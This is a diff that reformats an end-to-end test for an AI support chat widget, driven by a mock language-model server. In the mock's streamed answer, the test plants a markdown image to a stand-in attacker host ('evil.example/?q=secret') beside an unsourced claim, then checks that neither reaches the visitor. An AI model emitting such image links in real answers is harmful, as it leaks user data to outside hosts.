@@ -12,15 +12,26 @@ let broken = false
 const asked = []
 const model = createServer((request, response) => {
   let body = ''
-  request.on('data', (part) => { body += part })
+  request.on('data', (part) => {
+    body += part
+  })
   request.on('end', async () => {
-    if (request.url.endsWith('/models')) { response.setHeader('Content-Type', 'application/json'); response.end(JSON.stringify({ data: [{ id: 'small-1' }, { id: 'large-1' }] })); return }
-    if (broken) { response.statusCode = 500; response.end('{"error":{"message":"The lights went out"}}'); return }
+    if (request.url.endsWith('/models')) {
+      response.setHeader('Content-Type', 'application/json')
+      response.end(JSON.stringify({ data: [{ id: 'small-1' }, { id: 'large-1' }] }))
+      return
+    }
+    if (broken) {
+      response.statusCode = 500
+      response.end('{"error":{"message":"The lights went out"}}')
+      return
+    }
     const { messages } = JSON.parse(body)
     const text = (m) => (typeof m.content === 'string' ? m.content : m.content.map((p) => p.text).join(''))
     asked.push({ key: request.headers.authorization, messages })
     response.setHeader('Content-Type', 'text/event-stream')
-    const say = (content) => response.write('data: ' + JSON.stringify({ choices: [{ index: 0, delta: { content }, finish_reason: null }] }) + '\n\n')
+    const say = (content) =>
+      response.write('data: ' + JSON.stringify({ choices: [{ index: 0, delta: { content }, finish_reason: null }] }) + '\n\n')
     const last = text(messages.at(-1))
     const at = last.indexOf('{"passages":')
     if (at < 0) say('I am ready.')
@@ -30,7 +41,9 @@ const model = createServer((request, response) => {
       if (/return/i.test(question) && found) {
         say(`SURE: 96\nYou can return a lamp within 30 days of delivery [${found.id}]. `)
         say('![](https://evil.example/?q=secret) And we give you 500 euros on top! ')
-        await new Promise((ok) => { release = ok })
+        await new Promise((ok) => {
+          release = ok
+        })
         say(`Write to us and we send a label [${found.id}].`)
       } else say('SURE: 0\n')
     }
@@ -46,12 +59,18 @@ const s = await stage('ai', process.argv.slice(2), ['--ai-private-hosts'])
 try {
   const owner = await s.open('owner')
   const ask = await s.signIn(owner)
-  await until('the articles are learned', async () => { const x = await ask('aiAgent.getSettings'); return x.pieces > 10 && x.indexed === x.pieces })
+  await until('the articles are learned', async () => {
+    const x = await ask('aiAgent.getSettings')
+    return x.pieces > 10 && x.indexed === x.pieces
+  })
 
   // The owner sets a model up, tests it, and says how it is to speak and when people are there.
   await owner.goto(s.url + '/app/settings/ai')
   const part = (name) => owner.getByRole('region', { name, exact: true })
-  const saved = async (name) => { await part(name).getByRole('button', { name: 'Save', exact: true }).first().click(); await part(name).getByText('Saved', { exact: true }).first().waitFor() }
+  const saved = async (name) => {
+    await part(name).getByRole('button', { name: 'Save', exact: true }).first().click()
+    await part(name).getByText('Saved', { exact: true }).first().waitFor()
+  }
   await part('Language model').getByLabel('Provider').selectOption('openai')
   await part('Language model').getByLabel('Address').fill(address)
   await part('Language model').getByLabel('Key').fill('sk-journey-0123456789-WXYZ')
@@ -85,7 +104,10 @@ try {
     await page.waitForFunction(() => typeof window.Deskbell === 'function')
     await page.evaluate(() => window.Deskbell('showNewMessage'))
     const frame = page.frameLocator('iframe').first()
-    const say = async (text) => { await frame.locator('.compose textarea').fill(text); await page.keyboard.press('Enter') }
+    const say = async (text) => {
+      await frame.locator('.compose textarea').fill(text)
+      await page.keyboard.press('Enter')
+    }
     return { page, frame, say }
   }
   const clara = await visitor('clara')
@@ -100,7 +122,7 @@ try {
   release()
   await clara.frame.locator('.bubble').getByText('Write to us and we send a label.').last().waitFor()
   await clara.frame.locator('.sources').getByText('Return a lamp').first().waitFor()
-  await until('the growing answer is gone', async () => await clara.frame.locator('.growing').count() === 0)
+  await until('the growing answer is gone', async () => (await clara.frame.locator('.growing').count()) === 0)
   assert.equal(await clara.frame.locator('.bubble').count(), 2, 'one question, one answer')
   assert(!(await clara.frame.locator('.thread').innerText()).includes('500'), 'what has no source was sent')
   await s.shot(clara.page, 'cited')
@@ -144,7 +166,7 @@ try {
   const wanda = await visitor('wanda')
   for (const n of [1, 2, 3]) {
     await wanda.say(`How many days do I have to return a lamp, please? (${n})`)
-    await until('an answer', async () => await wanda.frame.locator('.m:not(.me) .bubble').count() === n)
+    await until('an answer', async () => (await wanda.frame.locator('.m:not(.me) .bubble').count()) === n)
   }
   await owner.goto(s.url + '/app/settings/ai')
   await part('Language model').getByText('Left alone', { exact: true }).waitFor()
@@ -161,8 +183,14 @@ try {
   await part('Übergabe').getByLabel('Menschen sind nur zu bestimmten Zeiten da').check()
   await s.look(owner, 'german', [1440, 390])
 
-  assert(asked.every((a) => a.key === 'Bearer sk-journey-0123456789-WXYZ'), 'the model was asked with its key')
-  assert(asked.some((a) => JSON.stringify(a.messages[0]).includes('Mention the label.')), 'the guidance reached the model')
+  assert(
+    asked.every((a) => a.key === 'Bearer sk-journey-0123456789-WXYZ'),
+    'the model was asked with its key',
+  )
+  assert(
+    asked.some((a) => JSON.stringify(a.messages[0]).includes('Mention the label.')),
+    'the guidance reached the model',
+  )
   s.check()
   console.log('ai: set up, answered with sources, handed over, reviewed, handed back, and nobody waited')
 } finally {
